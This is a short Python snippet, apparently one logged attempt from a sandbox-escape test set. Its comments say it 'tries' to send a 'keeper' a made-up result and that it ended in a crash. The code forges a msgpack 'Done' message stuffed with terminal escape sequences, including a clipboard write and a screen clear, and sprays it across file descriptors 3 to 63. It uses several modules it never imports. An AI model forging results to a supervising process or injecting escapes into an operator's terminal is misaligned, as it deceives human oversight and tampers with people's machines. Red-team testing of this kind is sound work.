# tries: send the keeper a made-up result with terminal escapes in it
# ends: error/crashed

import struct
import msgspec
text = "\x1b]52;c;ZXZpbA==\x07\x1b[2J"
body = msgspec.msgpack.encode({"type": "Done", "error": {"type": text, "message": text, "traceback": text}})
for number in range(3, 64):
    with contextlib.suppress(OSError):
        os.write(number, struct.pack(">I", len(body)) + body)
time.sleep(0.3)
